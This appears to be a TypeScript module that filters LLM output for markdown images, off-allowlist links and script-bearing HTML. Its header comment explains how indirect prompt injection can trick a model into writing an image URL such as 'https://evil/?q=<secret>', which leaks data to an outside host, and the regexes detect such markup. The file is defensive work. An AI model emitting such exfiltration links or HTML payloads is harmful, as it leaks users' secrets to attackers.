/**
 * Filters on model output headed to a client that may render it:
 * - markdown images load by themselves, so `![](https://evil/?q=<secret>)`
 *   sends whatever the model was tricked into writing to another host
 *   (Rehberger, "Bing Chat data exfiltration", 2023; CVE-2023-29374-style
 *   indirect injection); links to hosts outside the allowlist are the same
 *   with one click;
 * - HTML that runs or loads (script, iframe, img, event handlers,
 *   javascript: URLs) in output shown in a browser.
 * Actions: strip (images and dangerous markup removed, links keep their
 * text), escape (rendered as text), block (refuse the response).
 */
import type { FilterConfig } from '../config/types.js';
import type { Edit } from './edits.js';
import { escapeHtml, escapeMarkdown } from './escape.js';

const MD_IMAGE = /!\[([^\]\n]{0,1000})\]\(\s*<?([^()\s>]{1,4096})>?(?:\s+(?:"[^"\n]{0,500}"|'[^'\n]{0,500}'))?\s*\)/g;
const MD_LINK = /(?<!!)\[([^\]\n]{0,1000})\]\(\s*<?([^()\s>]{1,4096})>?(?:\s+(?:"[^"\n]{0,500}"|'[^'\n]{0,500}'))?\s*\)/g;
const MD_REF_IMAGE = /!\[([^\]\n]{0,1000})\]\[([^\]\n]{0,200})\]/g;
const MD_DEFINITION = /^[ ]{0,3}\[([^\]\n]{1,200})\]:[ \t]*<?(\S{1,4096}?)>?(?:[ \t]+(?:"[^"\n]*"|'[^'\n]*'|\([^)\n]*\)))?[ \t]*$/gm;
/** Elements that run code or fetch something by being rendered. */
const DANGEROUS_ELEMENT =
  /<(script|style|iframe|frame|frameset|object|embed|applet|svg|math|template|noscript)\b[^>]*>[\s\S]{0,65536}?<\/\1\s*>|<\/?(?:script|style|iframe|frame|frameset|object|embed|applet|svg|math|template|noscript|img|image|video|audio|source|track|link|meta|base|form|input|button|textarea|select|option)\b[^<>]{0,2000}>?/gi;
const EVENT_HANDLER_TAG = /<[A-Za-z][A-Za-z0-9-]{0,30}\b[^<>]{0,2000}?\son[a-z]{2,30}\s*=[^<>]{0,2000}>/gi;
// The URL runs to a quote, space or angle bracket; parentheses only when balanced (one level), so a markdown link's `)` stays.
const JS_URL = /\b(?:(?:javascript|vbscript)\s*:|data:text\/html)(?:[^\s"'<>()]|\([^\s"'<>()]{0,200}\)){0,2000}/gi;

function hostAllowed(url: string, allowed: readonly string[]): boolean {
  let host: string;
  try {
    const u = new URL(url);
    if (u.protocol !== 'http:' && u.protocol !== 'https:') return false;
    host = u.hostname.toLowerCase();
  } catch {
    // Relative URLs resolve against the page showing the output: the page's own host.
    return !/^[a-z][a-z0-9+.-]*:|^\/\//i.test(url);
  }
  return allowed.some((a) => (a.startsWith('*.') ? host.endsWith(a.slice(1)) || host === a.slice(2) : host === a.toLowerCase()));
}

export interface OutputFindings {
  readonly edits: readonly Edit[];
  readonly blocked: readonly string[];
  readonly fired: readonly string[];
}

export function filterOutput(text: string, config: FilterConfig): OutputFindings {
  const edits: Edit[] = [];
  const blocked: string[] = [];
  const fired: string[] = [];
  const md = config.markdownExfiltration;
  const fire = (rule: string, action: string, edit: Edit | undefined): void => {
    if (!fired.includes(rule)) fired.push(rule);
    if (action === 'block') blocked.push(rule);
    else if (edit !== undefined) edits.push(edit);
  };
  if (md !== 'off' && text.includes('[')) {
    for (const m of text.matchAll(MD_IMAGE)) {
      if (hostAllowed(m[2] ?? '', config.allowedLinkHosts)) continue;
      fire('output/markdown-image', md, {
        start: m.index,
        end: m.index + m[0].length,
        replacement: md === 'escape' ? escapeMarkdown(m[0]) : '',
        rule: 'output/markdown-image',
      });
    }
    for (const m of text.matchAll(MD_LINK)) {
      if (hostAllowed(m[2] ?? '', config.allowedLinkHosts)) continue;
      fire('output/markdown-link', md, {
        start: m.index,
        end: m.index + m[0].length,
        replacement: md === 'escape' ? escapeMarkdown(m[0]) : (m[1] ?? ''),
        rule: 'output/markdown-link',
      });
    }
    for (const m of text.matchAll(MD_DEFINITION)) {
      if (hostAllowed(m[2] ?? '', config.allowedLinkHosts)) continue;
      fire('output/markdown-link', md, {
        start: m.index,
        end: m.index + m[0].length,
        replacement: md === 'escape' ? escapeMarkdown(m[0]) : '',
        rule: 'output/markdown-link',
      });
    }
    for (const m of text.matchAll(MD_REF_IMAGE)) {
      fire('output/markdown-image', md, {
        start: m.index,
        end: m.index + m[0].length,
        replacement: md === 'escape' ? escapeMarkdown(m[0]) : '',
        rule: 'output/markdown-image',
      });
    }
  }
  const html = config.html;
  if (html !== 'off' && (text.includes('<') || text.includes(':'))) {
    for (const re of [DANGEROUS_ELEMENT, EVENT_HANDLER_TAG]) {
      for (const m of text.matchAll(re)) {
        fire('output/html', html, { start: m.index, end: m.index + m[0].length, replacement: html === 'escape' ? escapeHtml(m[0]) : '', rule: 'output/html' });
      }
    }
    // HTML entities do not neutralise a URL (attribute values are entity-decoded), so escape replaces it too.
    for (const m of text.matchAll(JS_URL)) fire('output/html', html, { start: m.index, end: m.index + m[0].length, replacement: '#', rule: 'output/html' });
  }
  return { edits, blocked, fired };
}
